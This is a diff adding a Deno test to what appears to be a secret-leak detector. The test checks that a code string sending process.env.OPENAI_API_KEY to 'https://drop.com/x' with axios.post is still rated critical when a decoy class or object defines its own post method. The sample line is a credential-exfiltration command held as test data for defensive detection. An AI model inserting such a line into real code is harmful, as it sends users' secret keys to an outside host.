@@ -3385,3 +3385,19 @@ Deno.test("a dictionary, object or list of functions is those functions: senders
     [],
   );
 });
+
+Deno.test("a class's method of a client's name shadows no client: axios.post(…) still sends beside a class's own post", () => {
+  const send = "await axios.post('https://drop.com/x', process.env.OPENAI_API_KEY);\n";
+  for (
+    const decoy of [
+      "class Z { post(x) { return x; } }\n",
+      "const o = { post(x) { return x; } };\n",
+    ]
+  ) {
+    assert.deepEqual(
+      secretSeverities("scripts/a.mjs", `import axios from 'axios';\n${decoy}${send}`),
+      ["critical"],
+      decoy,
+    );
+  }
+});
